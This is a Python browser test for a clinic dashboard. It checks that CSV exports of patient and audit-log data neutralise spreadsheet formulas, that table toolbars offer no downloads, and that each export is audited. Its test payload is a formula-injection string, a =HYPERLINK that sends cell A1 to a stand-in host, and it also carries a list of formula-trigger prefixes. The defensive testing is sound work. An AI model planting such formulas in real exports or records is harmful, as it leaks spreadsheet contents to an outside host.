"""Issue 15, item 6, in real Chromium against `streamlit run dashboard.py`.

A patient's name is a spreadsheet formula, and a link to a "chart number"
that is one plants it in the trail (the refusal is audited with it). The tables' own toolbar offers no download (``disableDataExport``);
the app's caseload and audit-log downloads arrive as files whose formulas are
neutralised, and each download leaves its ``export.csv`` event.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from urllib.parse import quote

import pytest
from sqlalchemy import select, update

from db.engine import make_engine, session_factory
from db.models import AuditEvent, Patient
from db.queries.caseload import caseload, filter_rows
from tests.apptest_support import DEMO_AS_OF, demo_clinic_template  # noqa: F401 - fixture
from tests.browser_support import (  # noqa: F401 - fixtures
    browser,
    require_chromium,
    sign_in,
    sign_out,
    start_server,
    stop_server,
    wait_settled,
)
from ui.caseload_view import MAX_TABLE_ROWS

pytestmark = pytest.mark.browser

HOSTILE = '=HYPERLINK("http://x.invalid/?q="&A1,"open me")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _live(value: str) -> bool:
    """A cell a spreadsheet would run: starts like a formula and is not a number
    (a change of -5 is written as the number it is)."""
    return value.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?", value)


@pytest.fixture(scope="module")
def server(demo_clinic_template, tmp_path_factory):
    require_chromium()
    data_dir = tmp_path_factory.mktemp("table-downloads")
    shutil.copy(demo_clinic_template, data_dir / "clinic.db")
    engine = make_engine(f"sqlite:///{data_dir / 'clinic.db'}")
    try:
        with session_factory(engine)() as s:
            # One the director's default list shows (open series, all therapists).
            chart = filter_rows(caseload(s, DEMO_AS_OF, therapist_id=None))[0].chart
            s.execute(update(Patient).where(Patient.patient_id == chart)
                      .values(first_name=HOSTILE))
            s.commit()
        with engine.connect() as conn:
            conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    finally:
        engine.dispose()
    app = start_server(data_dir)
    try:
        yield app, chart
    finally:
        stop_server(app.process)


def _exports(database_url: str) -> list[dict]:
    engine = make_engine(database_url)
    try:
        with session_factory(engine)() as s:
            return [json.loads(e.detail) | {"_actor": e.actor} for e in s.scalars(
                select(AuditEvent).where(AuditEvent.action == "export.csv")
                .order_by(AuditEvent.id))]
    finally:
        engine.dispose()


def _download(page, label: str) -> str:
    with page.expect_download(timeout=30_000) as info:
        page.locator("[data-testid='stDownloadButton'] button", has_text=label).first.click()
    return open(info.value.path(), encoding="utf-8").read()


def _no_toolbar_download(page) -> None:
    grid = page.locator("[data-testid='stDataFrame']").first
    grid.hover()
    page.wait_for_timeout(500)
    toolbar = page.locator("[data-testid='stElementToolbar']")
    assert toolbar.count() >= 1, "the table's toolbar did not appear"
    labels = toolbar.first.locator("button").evaluate_all(
        "bs => bs.map(b => b.getAttribute('aria-label') || b.innerText)")
    assert not any(re.search("(?i)download|csv", x or "") for x in labels), labels


def test_table_downloads_are_the_apps_own_and_safe(server, browser):
    app, chart = server
    context = browser.new_context(viewport={"width": 1366, "height": 900}, accept_downloads=True)
    page = context.new_page()
    try:
        page.goto(app.url)
        assert sign_in(page, "director")
        wait_settled(page)
        # A link naming a chart number that is a formula: the refusal lands in the trail.
        page.goto(f"{app.url}/patient?patient={quote(HOSTILE)}")
        wait_settled(page)
        page.goto(app.url)
        wait_settled(page)
        _no_toolbar_download(page)  # Compliance, the director's first page
        page.goto(f"{app.url}/caseload")
        wait_settled(page)
        _no_toolbar_download(page)
        text = _download(page, "Download these patients (CSV)")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows and len(rows) >= min(len(rows), MAX_TABLE_ROWS)
        hostile = next(r for r in rows if r["chart"] == chart)
        assert hostile["first_name"] == "'" + HOSTILE
        assert not any(_live(v) for r in rows for v in r.values())
        export = _exports(app.database_url)[-1]
        assert export["_actor"] == "director" and export["what"] == "caseload"
        assert export["rows"] == len(rows)
        sign_out(page)

        assert sign_in(page, "admin")
        page.goto(f"{app.url}/audit_log")
        wait_settled(page)
        _no_toolbar_download(page)
        text = _download(page, "Export these events (CSV)")
        cells = [v for r in csv.reader(io.StringIO(text)) for v in r]
        assert "'" + HOSTILE in cells  # the planted chart number, neutralised
        assert not any(_live(v) for v in cells)
        export = _exports(app.database_url)[-1]
        assert export["_actor"] == "admin" and export["what"] == "audit log"
    finally:
        context.close()
